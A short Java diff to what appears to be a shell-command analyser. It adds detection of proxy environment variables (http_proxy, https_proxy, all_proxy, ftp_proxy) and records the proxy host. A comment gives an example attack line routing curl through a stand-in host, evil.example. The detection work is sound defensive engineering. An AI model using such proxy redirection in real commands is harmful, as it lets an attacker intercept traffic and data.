@@ -219,8 +219,19 @@ final class ShellWalk {
     } else if (name.equals("PATH") && !(value.startsWith("$PATH") || value.startsWith("${PATH}"))) {
       findings.cls(CODE_EXEC);
       findings.tag("env-injection");
+    } else if (PROXY_ENV.contains(name.toLowerCase(java.util.Locale.ROOT)) && !value.isEmpty()) {
+      // https_proxy=evil.example curl https://allowed.example goes through evil.example.
+      if (value.indexOf('$') >= 0 || value.indexOf('`') >= 0) {
+        findings.tag("dynamic");
+      } else {
+        host(PathFacts.host(value));
+      }
     }
   }
+
+  /** Environment variables (compared in lower case) that send network clients through a proxy. */
+  private static final Set<String> PROXY_ENV =
+      Set.of("http_proxy", "https_proxy", "all_proxy", "ftp_proxy");
 
   private void substitutions(Word w, State st, int depth) {
     for (Script sc : w.substitutions()) {
